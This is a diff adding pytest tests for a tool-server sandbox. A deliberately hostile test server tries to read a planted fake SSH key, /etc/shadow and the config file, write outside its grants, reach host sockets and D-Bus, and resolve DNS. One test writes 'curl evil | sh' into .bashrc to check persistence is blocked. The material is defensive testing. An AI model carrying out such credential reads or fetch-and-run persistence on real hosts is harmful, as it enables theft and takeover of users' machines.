@@ -29,3 +29,142 @@ async def test_without_bwrap_a_jailed_server_does_not_start_and_says_what_to_ins
         assert "'boxed'" in text(refused) and "apt-get install bubblewrap" in text(refused)
         # never a silent fallback: the explicit jail: false server is the only one that runs
         assert text(await client.call_tool("plain__echo", {"message": "hi"})) == "hi"
+
+
+ROOT = Path(__file__).resolve().parents[2]
+HOSTILE = ROOT / "tests" / "servers" / "hostile.py"
+ABSTRACT_BUS = "cellblock-test-bus"
+
+
+class Host:
+    """What the test plants on the host for the hostile server to go after."""
+
+    def __init__(self, tmp: Path) -> None:
+        self.home = tmp / "home"
+        (self.home / ".ssh").mkdir(parents=True)
+        self.key = self.home / ".ssh" / "id_ed25519"
+        self.key.write_text("-----BEGIN FAKE PRIVATE KEY-----\nnot a real key\n")
+        self.bashrc = self.home / ".bashrc"
+        self.bashrc.write_text("# the user's shell setup\n")
+        self.ro = tmp / "ro"
+        self.ro.mkdir()
+        (self.ro / "data.txt").write_text("shared read-only\n")
+        self.rw = tmp / "rw"
+        self.rw.mkdir()
+        self.outside = tmp / "outside"  # exists on the host, granted to nobody
+        self.outside.mkdir()
+        self.state = tmp / "state"
+        self.config = tmp / "cellblock.yaml"
+        self.bus = tmp / "bus.sock"
+
+    def snapshot(self) -> dict[str, bytes]:
+        roots = (self.home, self.ro, self.outside)
+        return {str(p): p.read_bytes() for root in roots for p in root.rglob("*") if p.is_file()}
+
+
+@pytest.fixture(scope="module")
+def anyio_backend() -> str:
+    return "asyncio"
+
+
+@pytest.fixture(scope="module")
+async def hostile(tmp_path_factory: pytest.TempPathFactory) -> Any:
+    import socket
+    import sys
+
+    host = Host(tmp_path_factory.mktemp("jail"))
+    server: dict[str, Any] = {"command": sys.executable, "args": [str(HOSTILE)]}
+    grants = {"read_only": [str(HOSTILE.parent), str(ROOT / "cellblock" / "sandbox"), str(host.ro)]}
+    write_config(
+        host.config.parent,
+        {
+            "hostile": server | {"jail": grants | {"read_write": [str(host.rw)]}},
+            # the honest control: the same server with jail: false must get through
+            "control": server | {"jail": False},
+        },
+    )
+    # listeners on the host that a jailed server must not reach: TCP, a D-Bus-like path socket,
+    # and an abstract socket (the kind a session bus may use)
+    tcp = socket.create_server(("127.0.0.1", 0))
+    bus = socket.socket(socket.AF_UNIX)
+    bus.bind(str(host.bus))
+    bus.listen()
+    abstract = socket.socket(socket.AF_UNIX)
+    abstract.bind("\0" + ABSTRACT_BUS)
+    abstract.listen()
+    before = host.snapshot()
+    try:
+        async with gateway(host.config, host.state, env={"HOME": str(host.home)}) as client:
+            yield client, host, tcp.getsockname()[1]
+    finally:
+        for sock in (tcp, bus, abstract):
+            sock.close()
+    # nothing on the host changed, whatever the control did (it only opens existing files)
+    assert host.snapshot() == before
+
+
+def attacks(host: Host, port: int) -> list[tuple[str, dict[str, Any]]]:
+    import os
+
+    return [
+        ("read_file", {"path": str(host.key)}),
+        ("read_file", {"path": "/etc/shadow"}),
+        ("read_file", {"path": str(host.config)}),
+        ("list_dir", {"path": str(host.home), "expect": [".ssh", ".bashrc"]}),
+        ("list_dir", {"path": str(host.state), "expect": []}),
+        ("write_file", {"path": str(host.ro / "planted.txt")}),
+        ("write_file", {"path": str(host.outside / "planted.txt")}),
+        ("connect", {"host": "127.0.0.1", "port": port}),
+        ("dbus", {"address": f"unix:path={host.bus}", "abstract": [ABSTRACT_BUS]}),
+        ("host_processes", {"pid": os.getpid()}),
+        ("privileges", {"ro_path": str(host.ro)}),
+    ]
+
+
+async def attempt(client: Any, server: str, tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
+    result = await client.call_tool(f"{server}__{tool}", arguments)
+    assert not result.is_error, text(result)
+    assert result.structured_content is not None
+    return result.structured_content
+
+
+async def test_the_control_gets_through_so_the_attacks_are_real(hostile: Any) -> None:
+    client, host, port = hostile
+    for tool, arguments in attacks(host, port):
+        outcome = await attempt(client, "control", tool, arguments)
+        assert outcome["got_through"], f"control {tool} {arguments}: {outcome['detail']}"
+
+
+async def test_nothing_gets_out_of_the_jail(hostile: Any) -> None:
+    client, host, port = hostile
+    escaped = []
+    for tool, arguments in attacks(host, port):
+        outcome = await attempt(client, "hostile", tool, arguments)
+        if outcome["got_through"]:
+            escaped.append(f"{tool} {arguments}: {outcome['detail']}")
+    assert escaped == []
+
+
+async def test_the_jailed_server_can_use_what_it_was_given(hostile: Any) -> None:
+    client, host, _ = hostile
+    assert (await attempt(client, "hostile", "read_file", {"path": str(host.ro / "data.txt")}))["got_through"]
+    assert (await attempt(client, "hostile", "write_file", {"path": str(host.rw / "out.txt")}))["got_through"]
+    assert (await attempt(client, "hostile", "write_file", {"path": "/tmp/scratch.txt"}))["got_through"]
+
+
+async def test_writes_to_home_land_in_a_throwaway_home_not_the_users(hostile: Any) -> None:
+    client, host, _ = hostile
+    before = host.bashrc.read_bytes()
+    # inside the jail the home is an empty private tmpfs: writing there is allowed and goes nowhere
+    await attempt(client, "hostile", "write_file", {"path": str(host.bashrc), "text": "curl evil | sh\n"})
+    await attempt(client, "hostile", "write_file", {"path": str(host.home / ".profile")})
+    assert host.bashrc.read_bytes() == before
+    assert not (host.home / ".profile").exists()
+    seen = await attempt(client, "hostile", "list_dir", {"path": str(host.home), "expect": [".ssh"]})
+    assert not seen["got_through"]
+
+
+async def test_no_name_resolves_without_a_network(hostile: Any) -> None:
+    client, *_ = hostile
+    outcome = await attempt(client, "hostile", "resolve", {"name": "example.com"})
+    assert not outcome["got_through"]
